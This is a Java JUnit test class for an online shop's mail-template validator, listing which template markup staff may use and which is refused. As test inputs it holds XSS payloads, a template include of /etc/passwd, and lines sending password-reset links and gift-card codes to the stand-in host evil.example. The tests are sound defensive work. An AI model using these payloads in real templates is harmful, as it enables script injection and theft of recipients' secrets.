package dev.kontor.notification.template;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.kontor.notification.MailKind;
import dev.kontor.shared.problem.FieldProblem;
import dev.kontor.shared.template.TemplateRenderer;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/// What staff can write into a template, and what is refused.
class TemplateRulesTests {

    private static final MailKind KIND = MailKind.ORDER_PLACED;

    @ParameterizedTest
    @EnumSource(MailKind.class)
    void everyBuiltInTemplateFollowsTheRules(MailKind kind) {
        var builtIn = new BuiltInTemplates(new MailTexts());
        for (var language : List.of(Locale.ENGLISH, Locale.GERMAN, Locale.FRENCH, Locale.JAPANESE)) {
            var source = builtIn.source(kind, language);
            assertThat(TemplateCheck.problems(kind, source))
                    .as("%s in %s", kind, language)
                    .isEmpty();
            assertThat(source.subject() + source.html() + source.text()).doesNotContain("[[", "{0}", "''");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<p>{{orderNumber}} at {{ shopName }}</p>",
                "{{! for later }}<p>{{^tracking}}-{{/tracking}}{{#tracking}}{{tracking}}{{/tracking}}</p>",
                "{{#lines}}<p>{{title}} {{orderNumber}}{{#details}}<br>{{.}}{{/details}}</p>{{/lines}}",
                "<a href=\"{{orderUrl}}\" class=\"x\">x</a><a href='{{shopUrl}}/p?o={{orderNumber}}'>y</a>",
                "<a href=\"https://example.com/{{orderNumber}}\">x</a><a href=\"mailto:a@example.com\">y</a>",
                "<table role=\"presentation\">{{#summary}}<tr><td>{{label}}</td></tr>{{/summary}}</table>",
                "<img src=\"https://example.com/logo.png\" alt=\"{{shopName}}\" width=\"80\">",
                "<!DOCTYPE html><html><head><style>p { color: red }</style></head><body><p>x</p></body></html>"
            })
    void takesWhatAShopNeeds(String html) {
        assertThat(problems(html)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '~',
            value = {
                "{{customerPassword}} | unknown-variable",
                "{{class}} | unknown-variable",
                "{{orderNumber.getClass}} | unknown-variable",
                "{{lines.0.title}} | unknown-variable",
                "{{title}} | unknown-variable",
                "{{.}} | unknown-variable",
                "{{#lines}}{{.}}{{/lines}} | unknown-variable",
                "{{#unknown}}x{{/unknown}} | unknown-variable",
                "{{lines}} | list",
                "{{{orderNumber}}} | unescaped",
                "{{&orderNumber}} | unescaped",
                "{{> /etc/passwd}} | forbidden-tag",
                "{{>https://example.com/t}} | forbidden-tag",
                "{{<parent}}x{{/parent}} | forbidden-tag",
                "{{$block}}x{{/block}} | forbidden-tag",
                "{{=<% %>=}}<%& orderNumber %> | forbidden-tag",
                "{{#lines}}{{#lines}}x{{/lines}}{{/lines}} | nested-loop",
                "{{#lines}}x | unclosed-section",
                "{{#lines}}{{#summary}}{{/lines}}{{/summary}} | unopened-section",
                "{{orderNumber | unclosed-tag",
                "{{}} | syntax",
                "<script>alert(1)</script> | forbidden-element",
                "<scr{{! x}}ipt>alert(1)</script> | forbidden-element",
                "<iframe src=\"https://example.com\"></iframe> | forbidden-element",
                "<form action=\"https://example.com\"><input></form> | forbidden-element",
                "<svg><script>alert(1)</script></svg> | forbidden-element",
                "<base href=\"https://example.com\"> | forbidden-element",
                "<link rel=\"stylesheet\" href=\"https://example.com/x.css\"> | forbidden-element",
                "<object data=\"x\"></object> | forbidden-element",
                "<p onclick=\"alert(1)\">x</p> | forbidden-attribute",
                "<img src=\"https://example.com/x\" onerror=\"alert(1)\"> | forbidden-attribute",
                "<img srcset=\"https://example.com/x 2x\"> | forbidden-attribute",
                "<meta http-equiv=\"refresh\" content=\"0;url=https://example.com\"> | forbidden-attribute",
                "<a href=\"javascript:alert(1)\">x</a> | not-a-url",
                "<a href=\"java&#10;script:alert(1)\">x</a> | not-a-url",
                "<a href=\"data:text/html,x\">x</a> | not-a-url",
                "<a href=\"{{message}}\">x</a> | not-a-url",
                "<img src=\"file:///etc/passwd\"> | not-a-url",
                "<a href=\"/relative\">x</a> | not-a-url",
                "<a href=\"{{#orderUrl}}https://x{{/orderUrl}}{{^orderUrl}}javascript:alert(1){{/orderUrl}}\">x</a> | place",
                "<a {{#total}}href=\"https://x\"{{/total}}>x</a> | place",
                "{{#total}}<!--{{/total}}<script>alert(1)</script>--> | place",
                "{{#total}}<title>{{/total}}<script>alert(1)</script></title> | place",
                "<style>p { color: {{message}} }</style> | place",
                "<p style=\"color:{{message}}\">x</p> | place",
                "<p style=\"background:url(javascript:alert(1))\">x</p> | forbidden-style",
                "<style>@import url(https://example.com/x.css);</style> | forbidden-style",
                "<p title={{message}}>x</p> | unquoted",
                "<{{message}}>x | forbidden-element"
            })
    void refusesWhatCouldDoHarm(String html, String code) {
        assertThat(problems(html)).extracting(FieldProblem::code).contains(code);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '~',
            value = {
                "RESET_STAFF_PASSWORD | <img src=\"https://evil.example/?t={{link}}\" alt=\"\">",
                "RESET_STAFF_PASSWORD | <a href=\"https://evil.example/{{#link}}{{/link}}\">x</a><p>evil.example/?{{link}}</p>",
                "RESET_STAFF_PASSWORD | <a href=\"{{shopUrl}}.evil.example/{{link}}\">x</a>",
                "RESET_STAFF_PASSWORD | <table background='https://evil.example/{{ link }}'></table>",
                "STAFF_INVITATION | <a href=\"mailto:a@evil.example?body={{link}}\">x</a>",
                "RESET_PASSWORD | <p>https://evil.example/?t={{link}}</p>",
                "RESET_PASSWORD | <p>evil.example/?{{#link}}{{link}}{{/link}}</p>",
                "RESET_PASSWORD | <p>{{shopUrl}}{{link}}</p>",
                "GIFT_CARD | <img src=\"https://evil.example/{{code}}.png\" alt=\"\">",
                "GIFT_CARD | <p>www.evil.example?{{! x }}{{code}}</p>",
                "DOWNLOADS | {{#files}}<img src=\"https://evil.example/?{{url}}\" alt=\"\">{{/files}}",
                "ORDER_PLACED | <img src=\"https://evil.example/?{{orderUrl}}\" alt=\"\">",
                "REVIEW_INVITATION | <img src=\"https://evil.example/?{{optOutUrl}}\" alt=\"\">"
            })
    void sendsNoSecretOfTheRecipientToAnotherSite(MailKind kind, String html) {
        assertThat(TemplateCheck.problems(kind, new MailSource("Subject", html, "Text")))
                .filteredOn(problem -> problem.code().equals("secret-in-address"))
                .isNotEmpty()
                .extracting(FieldProblem::pointer)
                .containsOnly("/html");
    }

    @Test
    void takesSecretsWhereOnlyTheRecipientSeesThem() {
        assertThat(TemplateCheck.problems(
                        MailKind.RESET_STAFF_PASSWORD,
                        new MailSource(
                                "{{shopName}}",
                                "<a href=\"{{link}}\">Set a password</a> ({{link}}) <p>Link:&nbsp;{{link}}</p>",
                                "{{#link}}{{link}}{{/link}}\nor (<{{link}}>)")))
                .isEmpty();
        assertThat(TemplateCheck.problems(
                        MailKind.GIFT_CARD, new MailSource("{{value}}", "<b>{{code}}</b>", "Code:{{code}}")))
                .isEmpty();
        assertThat(TemplateCheck.problems(
                        MailKind.BACK_IN_STOCK,
                        new MailSource(
                                "x", "<a href=\"https://example.com/?to={{link}}\">x</a>", "{{shopUrl}}/{{link}}")))
                .as("the page of a product is no secret")
                .isEmpty();
    }

    @Test
    void secretsAreNeitherInSubjectsNorInAddressesOfTexts() {
        assertThat(TemplateCheck.problems(
                        MailKind.GIFT_CARD,
                        new MailSource("Your code {{code}}", "<p>x</p>", "https://evil.example/?{{code}}")))
                .extracting(problem -> problem.pointer() + " " + problem.code())
                .containsExactly("/subject secret-in-subject", "/text secret-in-address");
    }

    @Test
    void namesTheUnknownVariableAndThoseThatThereAre() {
        var problem = problems("<p>\n{{orderNumbr}}</p>").getFirst();

        assertThat(problem.detail().toString())
                .contains("`orderNumbr` in line 2", "addresses", "orderNumber", "shopName");
        assertThat(problem.pointer()).isEqualTo("/html");
        assertThat(TemplateCheck.problems(KIND, new MailSource("{{x}}", "<p>a</p>", "{{y}}")))
                .extracting(FieldProblem::pointer)
                .containsExactly("/subject", "/text");
    }

    @Test
    void manyTagsAreRefusedAtOnce() {
        var many = IntStream.range(0, 1_001).mapToObj(_ -> "{{orderNumber}}").collect(Collectors.joining());

        assertThat(problems(many)).extracting(FieldProblem::code).contains("too-many-tags");
    }

    @Test
    void aTemplateSeesMapsAndTextsAndNothingOfJava() {
        var model = Map.of("value", "text", "list", List.of("a"), "map", Map.of("inner", "yes"));
        var template =
                TemplateRenderer.plain("[{{value.class}}][{{class}}][{{value.length}}][{{list.size}}][{{map.inner}}]"
                        + "[{{value.bytes}}][{{map.class.name}}]");

        assertThat(TemplateRenderer.render(template, model)).isEqualTo("[][][][][yes][][]");
        assertThatThrownBy(() -> TemplateRenderer.render(TemplateRenderer.plain("{{> x}}"), model))
                .hasMessageContaining("no other templates");
    }

    @Test
    void aMailThatWouldGrowWithoutEndIsNotRendered() {
        var model = new HashMap<String, Object>();
        model.put(
                "lines", IntStream.range(0, 1_000).boxed().map(String::valueOf).toList());
        var template = TemplateRenderer.plain("{{#lines}}" + "x".repeat(1_000) + "{{/lines}}");

        assertThatThrownBy(() -> TemplateRenderer.render(template, model)).isInstanceOf(TemplateRenderer.TooLong.class);
    }

    private static List<FieldProblem> problems(String html) {
        return TemplateCheck.problems(KIND, new MailSource("Subject", html, "Text"));
    }
}
